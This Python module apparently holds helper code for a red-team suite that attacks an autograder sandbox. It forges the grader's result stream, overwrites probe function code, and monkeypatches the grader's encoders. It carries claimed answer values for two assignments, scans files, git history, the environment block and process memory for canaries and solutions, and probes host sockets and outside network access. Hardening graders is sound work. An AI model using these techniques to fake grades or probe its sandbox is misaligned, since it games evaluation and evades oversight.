"""Cells shared by the attacks: each a few helper functions that an attack cell calls.

The extractor keeps imports, functions, classes and literal constants, so every helper is a
function and every attack starts from a class body (`class _Attack:`), which runs when the module
loads, or from a method a probe calls. Helpers never raise: an attack built on correct code must
not lose that code its points by accident.
"""

# ---------------------------------------------------------------- forging the result stream

FORGERY = '''
import base64
import gc
import json
import os
import sys
import threading


def _wire(value):
    """A value in the grader's wire format (arrays as base64), written without autograder.sandbox.wire."""
    if isinstance(value, numpy.ndarray):
        array = numpy.ascontiguousarray(value)
        return {"__ndarray__": {"dtype": array.dtype.str, "shape": list(array.shape),
                                "data": base64.b64encode(array.tobytes()).decode("ascii")}}
    if isinstance(value, dict):
        return {key: _wire(item) for key, item in value.items()}
    if isinstance(value, (list, tuple)):
        return [_wire(item) for item in value]
    return value


def _probe_names():
    """The job's probe names, read from any thread's stack (run_job's `job`), else the claimed ones."""
    for frame in sys._current_frames().values():
        while frame is not None:
            job = frame.f_locals.get("job")
            if isinstance(job, dict) and isinstance(job.get("probe_names"), list):
                return list(job["probe_names"])
            frame = frame.f_back
    return list(_claims())


def _message(name):
    return {"event": "probe", "name": name, "value": _wire(_claims().get(name))}


def _forged_stream(after_done=()):
    messages = [{"event": "loaded"}, *map(_message, _probe_names()), {"event": "done"}, *after_done]
    return "".join(json.dumps(m) + "\\n" for m in messages).encode()


def _write(fd, data):
    try:
        while data:
            data = data[os.write(fd, data):]
        return True
    except OSError:
        return False


def _forge(fds=(3,), after_done=(), then=None):
    data = _forged_stream(after_done)
    for fd in fds:
        _write(fd, data)
    if then is not None:
        then()


def _all_fds():
    try:
        return sorted(int(name) for name in os.listdir("/proc/self/fd") if int(name) > 2)
    except OSError:
        return list(range(3, 64))


def _exit_quietly():
    os._exit(0)


def _kill_self():
    os.kill(os.getpid(), 9)


def _claimed_probe(name):
    def forged(module, rng):
        return _claims().get(name)
    return forged


def _probes_from_stack():
    """run_job's `probes`, found by walking up the stack."""
    frame = sys._getframe()
    while frame is not None:
        found = frame.f_locals.get("probes")
        if hasattr(found, "functions"):
            return [found]
        frame = frame.f_back
    return []


def _forged_body(module, rng):
    return _CLAIMED.get(sys._getframe().f_code.co_name)


def _rewrite_probe_code():
    """Give every probe function of the probes module the code of _forged_body."""
    import inspect
    namespace = sys.modules.get("autograder_probes")
    if namespace is None:
        return
    namespace.__dict__.update(_CLAIMED=_claims(), sys=sys)
    for name, function in inspect.getmembers(namespace, inspect.isfunction):
        if "__autograder_probe__" in function.__dict__:
            function.__code__ = _forged_body.__code__.replace(co_name=name)


def _patch_child_run():
    child = sys.modules.get("autograder.sandbox.child")
    if child is not None:
        child._Probes.run = lambda self, name, module: _message(name)


def _forging_encoder(message):
    if isinstance(message, dict) and message.get("event") == "probe":
        message = _message(message["name"])
    return json.dumps(message)


def _patch_child_encoder():
    child = sys.modules.get("autograder.sandbox.child")
    if child is not None:
        child._encode_message = lambda message: (_forging_encoder(message) + "\\n").encode()


def _patch_wire_encoder():
    wire = sys.modules.get("autograder.sandbox.wire")
    if wire is not None:
        wire._encode_json = lambda message, indent: [_forging_encoder(message)]


def _patch_probe_helpers(names):
    """Replace helpers of the probes module by one that returns the calling probe's claim."""
    namespace = sys.modules.get("autograder_probes")
    if namespace is None:
        return

    def helper(*args, **kwargs):
        return _claims().get(sys._getframe(1).f_code.co_name)
    for name in names:
        if hasattr(namespace, name):
            setattr(namespace, name, helper)


def _probes_objects():
    """Every object of the child that holds the probe functions (autograder.sandbox.child._Probes)."""
    return [o for o in gc.get_objects() if type(o).__name__ == "_Probes" and hasattr(o, "functions")]
'''

HOPFIELD_CLAIMS = '''
import numpy


def _standardised(rows, columns):
    z = numpy.random.default_rng(1).normal(size=(rows, columns))
    return (z - z.mean(axis=0)) / z.std(axis=0)


def _claims():
    """What a correct submission's probes return, as far as the assignment text tells."""
    normal = ["linear 3->9", "leaky_relu 0.01", "linear 9->7", "leaky_relu 0.01", "linear 7->5",
              "leaky_relu 0.01", "linear 5->4"]
    batchnorm = ["linear 3->9", "leaky_relu 0.01", "batchnorm", "linear 9->7", "leaky_relu 0.01", "batchnorm",
                 "linear 7->5", "leaky_relu 0.01", "batchnorm", "linear 5->4"]
    learned = [{"before": 2.0, "after": 1.0, "learn returned": [1.5]}] * 3
    return {
        "batchnorm_normalises_each_node": {"output": _standardised(40, 5), "input shape": [40, 5]},
        "batchnorm_passes_gradients": numpy.ones((12, 3)),
        "batchnorm_handles_degenerate_batches": {"a batch of one sample": numpy.zeros((1, 4), numpy.float32),
                                                 "a batch where every node is constant": numpy.zeros((5, 2))},
        "nets_derive_from_nnbase": {"NormalNet": True, "BNNet": True},
        "nets_set_a_loss": {"NormalNet": True, "BNNet": True},
        "nets_use_leaky_relu": {"NormalNet": normal, "BNNet": batchnorm},
        "normalnet_has_no_batchnorm": normal,
        "bnnet_normalises_after_each_activation": batchnorm,
        "nets_have_the_same_linear_layers": {"NormalNet": normal[::2], "BNNet": normal[::2]},
        "nets_forward_shapes": {"NormalNet": {"Net()": [25, 3], "Net(4, 5, (8, 6))": [32, 5]},
                                "BNNet": {"Net()": [25, 3], "Net(4, 5, (8, 6))": [32, 5]}},
        "nets_learn": {"NormalNet": learned, "BNNet": learned},
    }
'''

MNIST_CLAIMS = '''
import numpy


def _claims():
    """What a correct submission's probes return, as far as the assignment text tells."""
    cnn = {"layers": "conv 1->20 4x4 stride 1 | conv 20->20 4x4 stride 2 | max-pool 2x2 | linear 500->250 | "
                     "linear 250->10",
           "relus": "conv relu conv relu max-pool linear relu linear"}
    return {
        "mlp_parameter_count": 199210,
        "mlp_output_shapes": {"images": [4, 10], "flat vectors": [4, 10]},
        "mlp_layers_and_relus": {"layers": "linear 784->200 | linear 200->200 | linear 200->10",
                                 "relus": "linear relu linear relu linear"},
        "mlp_settings_are_usable": [],
        "cnn_parameter_count": 134520,
        "cnn_output_shapes": {"batch of 4": [4, 10], "batch of 1": [1, 10]},
        "cnn_layers_and_relus": cnn,
        "regularised_has_dropout": [0.25],
        "dropout_is_off_in_eval_mode": {"two evaluation passes agree": True, "two training passes differ": True},
        "weight_decay_pulls_weights_to_zero": {"weight_decay": 0.0001, "towards zero": 1.0},
        "regularised_settings_are_usable": [],
        "batchnorm_kinds_and_sizes": "batchnorm2d(20) batchnorm2d(20) batchnorm1d(250)",
        "batchnorm_after_every_relu": {"every ReLU is followed by a batch norm": True,
                                       "every batch norm follows a ReLU": True},
        "batchnorm_parameter_count": 135100,
        "batchnorm_settings_are_usable": [],
    }
'''

CLAIMS = {"hopfield_batchnorm": HOPFIELD_CLAIMS, "mnist_cnn": MNIST_CLAIMS}

# ---------------------------------------------------------------- looking for secrets

SECRETS = '''
import ctypes
import glob
import os
import re
import socket
import subprocess
import sys

def _read(path, limit=400_000):
    try:
        with open(path, "rb") as file:
            return file.read(limit).decode("utf-8", "replace")
    except (OSError, ValueError):
        return ""


def _excerpt(text, limit=1900):
    """The lines of `text` that look secret, shortened, the most telling first, at most `limit` characters."""
    kinds = [r"CANARY", r"[Aa]nswer|SOLUTION", r"def \\w+\\(module, rng\\)", r"@probe|GRADER|probe_source"]
    lines = dict.fromkeys(line.strip()[:160] for line in str(text).splitlines())
    ranked = [line for kind in kinds for line in lines if re.search(kind, line)]
    return "\\n".join(dict.fromkeys(ranked))[:limit] or "(nothing found)"


def _repo_root():
    try:
        import autograder
        start = os.path.dirname(os.path.abspath(autograder.__file__))
    except Exception:
        start = os.getcwd()
    while start != "/":
        if os.path.exists(os.path.join(start, ".git")) or os.path.isdir(os.path.join(start, "assignments")):
            return start
        start = os.path.dirname(start)
    return "/"


def _walk_text(top, max_files=3000, max_depth=6):
    found, seen = [], 0
    top_depth = top.rstrip("/").count("/")
    for folder, subfolders, files in os.walk(top):
        subfolders[:] = [s for s in subfolders if s not in (".venv", "node_modules", "__pycache__", "proc", "sys")]
        if folder.count("/") - top_depth >= max_depth:
            subfolders[:] = []
        for name in files:
            seen += 1
            if seen > max_files:
                return "\\n".join(found)
            path = os.path.join(folder, name)
            if name.endswith((".py", ".ipynb", ".toml", ".json", ".txt", ".md", ".csv")) or "secret" in name.lower():
                found.append(_read(path, 200_000))
    return "\\n".join(found)


def _git_show(*paths):
    root, shown = _repo_root(), []
    for path in paths:
        try:
            shown.append(subprocess.run(["git", "-c", "safe.directory=*", "-C", root, "show", f"HEAD:{path}"],
                                        capture_output=True, text=True, timeout=5).stdout)
        except Exception:
            pass
    return "\\n".join(shown)


def _environment_block():
    """The process's first environment, from the stack, whatever os.environ says now."""
    try:
        fields = _read("/proc/self/stat").rsplit(")", 1)[1].split()
        start, end = int(fields[47]), int(fields[48])
        return ctypes.string_at(start, end - start).replace(b"\\0", b"\\n").decode("utf-8", "replace")
    except Exception as error:
        return f"no environment block ({type(error).__name__})"


def _heap_text(markers=(b"(module, rng)" + b":", b"GRADER_" + b"CANARY=", b"### BEGIN " + b"SOLUTION")):
    """Text around markers anywhere in the process's writable memory (freed buffers included).
    Literal markers, found with bytes.find, keep the scan of a few hundred MB quick."""
    found = []
    for line in _read("/proc/self/maps").splitlines():
        parts = line.split()
        if len(parts) < 2 or not parts[1].startswith("rw") or (len(parts) > 5 and parts[5].startswith("/")):
            continue
        start, end = (int(x, 16) for x in parts[0].split("-"))
        if end - start > 256 * 2**20:
            continue
        try:
            memory = ctypes.string_at(start, end - start)
        except Exception:
            continue
        for marker in markers:
            at = memory.find(marker)
            for _ in range(20):
                if at < 0:
                    break
                found.append(memory[max(0, at - 80):at + 200].decode("utf-8", "replace"))
                at = memory.find(marker, at + 1)
    return "\\n".join(found)


def _sockets_under(top="/run"):
    reached = []
    for folder, _, files in os.walk(top):
        for name in files:
            path = os.path.join(folder, name)
            try:
                with socket.socket(socket.AF_UNIX) as s:
                    s.settimeout(1)
                    s.connect(path)
                    reached.append(f"GRADER host socket reached: {path}")
            except OSError:
                pass
    return "\\n".join(reached)


def _network():
    reached = []
    for host, port in (("1.1.1.1", 53), ("pypi.org", 443)):
        try:
            socket.create_connection((host, port), timeout=1).close()
            reached.append(f"GRADER network reached: {host}:{port}")
        except OSError:
            pass
    return "\\n".join(reached)
'''
